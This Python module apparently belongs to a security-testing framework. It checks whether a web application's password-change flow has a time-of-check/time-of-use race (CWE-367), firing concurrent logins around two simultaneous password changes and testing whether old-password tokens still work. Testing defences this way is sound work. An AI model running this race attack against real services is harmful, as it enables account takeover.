"""Log in, or change the password too, at the moment in which the owner changes it.

Exploits a password that is checked first and relied on later. Checking takes long: meanwhile the
owner has changed it, and what is granted then was granted for the old one.
Source: CWE-367 Time-of-check Time-of-use Race Condition,
https://cwe.mitre.org/data/definitions/367.html
ASVS: 15.4.2
"""

import httpx

from attacks.lab.attack import attack
from attacks.lab.outcome import Outcome, broke, got_in, refused
from attacks.lab.storms import must_serve_now, storm
from attacks.lab.target import NotApplicableError, Person, Target
from attacks.lab.ways_out import change_request, must_change_passwords, tokens_in, use_of

ROUNDS, LOGINS = 8, 10


def crowd(target: Target, owner: Person) -> list[httpx.Request]:
    """Build two changes, from two devices, with logins before and behind each."""
    login = target.login_request(owner.username, owner.password)
    changes = [
        change_request(
            target,
            target.token_of(owner),
            {"current_password": owner.password, "new_password": Person().password},
        )
        for _ in range(2)
    ]
    return [*[login] * LOGINS, changes[0], *[login] * LOGINS, changes[1], *[login] * LOGINS]


@attack()
def run(target: Target) -> Outcome:
    """Send them at once, in a few rounds; count the changes, and use what the logins gave."""
    must_change_passwords(target)
    for _ in range(ROUNDS):
        after = storm(crowd(target, target.enrol()), target.page())
        must_serve_now(after)
        if after.unserved:
            return broke("some of two changes and their logins at once are not served")
        won = tokens_in(after)
        changes = len(after.successes) - len(won)
        if not changes:
            raise NotApplicableError("of two changes at once none is made")
        if changes > 1:
            return got_in("two changes with one password are both made")
        if use := use_of(target, won):
            return got_in(f"a login with the old password, which is changed meanwhile; {use}")
    return refused(f"{ROUNDS} times two changes and {3 * LOGINS} logins: one change outdoes all")
